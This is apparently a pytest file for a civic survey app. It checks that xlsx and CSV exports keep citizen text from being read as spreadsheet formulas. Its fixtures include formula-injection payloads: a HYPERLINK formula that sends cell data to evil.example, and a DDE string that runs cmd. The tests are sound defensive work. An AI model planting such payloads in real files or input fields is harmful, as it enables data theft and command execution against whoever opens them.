"""Citizen and free text stays text in every export: no formula in an xlsx cell, guarded CSV fields (#12)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook

from suarawarga.bootstrap import App
from suarawarga.reports.digest import gather
from suarawarga.reports.digest_files import write_workbook
from suarawarga.storage.units import NewUnit
from suarawarga.surveys.definitions import Unsur
from suarawarga.surveys.export import report_csv, write_xlsx
from suarawarga.surveys.ikm import Weight
from suarawarga.surveys.model import NewResponse, ResponseSource
from suarawarga.surveys.periods import parse_period
from suarawarga.surveys.services import ikm_report, profile_counts, responses_in
from tests.support.clock import JAKARTA

ATTACKS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+62 812 3456 hubungi saya",
    "-2+3 antrian lama",
    "@SUM(1,2) parkir",
    "\t=1+1",
    "\r=1+1",
    "warna \x1b[31m merah \x0b dan \x07",  # control characters an xlsx cannot hold (PostgreSQL already refuses NUL)
)
EVIL_NAME = "=cmd|' /C calc'!A0"
NUMBERS = {"n", "ni", "ikm", "min_sample", "mean_of_unit_ikms", "mean_of_unit_ikms_units"} | {
    f"nrr_{u.value}" for u in Unsur
}


async def _store(app: App) -> None:
    """Store one questionnaire per attack text for PKM-ANDALAS and give DINKES a formula as its name."""
    async with app.uow() as uow:
        unit = await uow.units.by_code("PKM-ANDALAS")
        dinkes = await uow.units.by_code("DINKES")
        assert unit is not None and dinkes is not None
        await uow.surveys.add_many(
            [
                NewResponse(
                    unit_id=unit.id,
                    submitted_at=datetime(2026, 11, 2 + index, 10, 0, tzinfo=JAKARTA),
                    answers=dict.fromkeys(Unsur, 3),
                    source=ResponseSource.IMPORT,
                    service=text,
                    saran=text,
                )
                for index, text in enumerate(ATTACKS)
            ]
        )
        await uow.units.upsert(
            NewUnit(
                code="DINKES",
                name=EVIL_NAME,
                kind=dinkes.kind,
                parent_id=dinkes.parent_id,
                oversight=dinkes.oversight,
                city_admin=dinkes.city_admin,
                population=dinkes.population,
            )
        )
        await uow.commit()


def _cells(path: Path) -> list[tuple[str, object, str]]:
    """Return (sheet, value, data type) of every filled cell of a workbook."""
    book = load_workbook(path)
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


async def test_report_xlsx_keeps_saran_and_names_as_text(app: App, tmp_path: Path) -> None:
    """No cell of the IKM workbook is a formula; saran and service read back as the citizen wrote them."""
    await _store(app)
    period = parse_period("2026-11", JAKARTA)
    async with app.uow() as uow:
        report = await ikm_report(uow, period, Weight.EXACT, "DINKES")
        responses = await responses_in(uow, period, report.first())
        profile = await profile_counts(uow, period, report.first())
    path = tmp_path / "r.xlsx"
    write_xlsx(path, report, responses, profile, lambda key: app.catalogue.render(key, "id"), JAKARTA)
    cells = _cells(path)
    assert [c for c in cells if c[2] == "f"] == []
    saran = [v for sheet, v, _ in cells if sheet == "Saran"]
    assert [t for t in ATTACKS[:6] if t.replace("\r", "\n") not in saran] == []  # XML reads CR as LF
    assert "warna \x1b[31m merah \x0b dan \x07" not in saran
    assert "warna \ufffd[31m merah \ufffd dan \ufffd" in saran
    assert EVIL_NAME in [v for sheet, v, _ in cells if sheet == "Ringkasan"]


async def test_report_csv_guards_text_and_leaves_numbers(app: App) -> None:
    """A CSV text field a spreadsheet would run starts with an apostrophe; numbers are written unchanged."""
    await _store(app)
    async with app.uow() as uow:
        report = await ikm_report(uow, parse_period("2026-11", JAKARTA), Weight.EXACT, "DINKES")
    rows = list(csv.DictReader(io.StringIO(report_csv(report))))
    assert rows[0]["name"] == "'" + EVIL_NAME
    for row in rows:
        for column, value in row.items():
            if column not in NUMBERS:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert rows[0]["ikm"] == "75.00" and rows[0]["n"] == str(len(ATTACKS))


async def test_digest_workbook_has_no_formula(app: App, tmp_path: Path) -> None:
    """The city digest's workbook writes a unit name that looks like a formula as text."""
    await _store(app)
    week = parse_period("2026-W45", JAKARTA)
    async with app.uow() as uow:
        digest = await gather(uow, app.calendar, week, datetime(2026, 11, 9, 7, 0, tzinfo=JAKARTA))
    path = tmp_path / "d.xlsx"
    write_workbook(digest, path)
    cells = _cells(path)
    assert [c for c in cells if c[2] == "f"] == []
    assert EVIL_NAME in [v for _, v, _ in cells]
